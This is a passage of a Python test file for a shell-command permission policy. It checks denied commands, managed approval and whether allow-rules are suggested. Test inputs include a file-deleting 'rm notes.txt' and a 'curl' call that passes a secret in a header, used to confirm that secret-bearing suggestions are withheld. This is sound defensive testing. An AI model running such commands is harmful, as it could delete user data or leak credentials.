    assert allow_rule(denied, shell("rm notes.txt", ["rm"])) is None
    managed = read().to_dict() | {"managedApprovalRequired": True}
    assert policy("shell(git status:*)").decide(managed).allow_rule is None


def test_a_suggestion_that_would_carry_a_secret_is_withheld() -> None:
    masked = Policy(PermissionConfig(False, ("read",)), mask=lambda t: t.replace("s3cr3t", "***"))
    assert masked.decide(shell("curl -H s3cr3t x", ["curl"]).to_dict()).allow_rule is None


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60), st.lists(st.text(max_size=12), max_size=3))
def test_any_suggested_rule_allows_exactly_its_request(command: str, names: list[str]) -> None:
    """Whatever the command text, a suggestion is a rule that really allows it, and a
    policy that also has a deny rule for it never suggests anything."""
    request = shell(command, names).to_dict()
    decision = policy("shell(git status:*)").decide(request)
    if decision.allow_rule is not None:
        assert policy("shell(git status:*)", decision.allow_rule).decide(request).allowed
    deny_all = Policy(PermissionConfig(False, ("read",), denied_tools=("shell",)))
    assert deny_all.decide(request).allow_rule is None
